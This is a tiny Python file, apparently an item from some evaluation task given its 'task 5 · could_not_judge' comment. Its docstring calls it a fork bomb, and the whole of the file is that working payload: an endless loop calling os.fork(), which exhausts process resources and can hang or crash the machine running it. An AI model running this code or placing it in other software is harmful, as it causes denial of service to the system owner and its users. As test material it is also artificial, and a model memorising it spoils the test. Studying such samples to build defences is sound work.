"""A fork bomb by os.fork."""
# task 5 · could_not_judge · processes, which is all
import os

while True:
    os.fork()
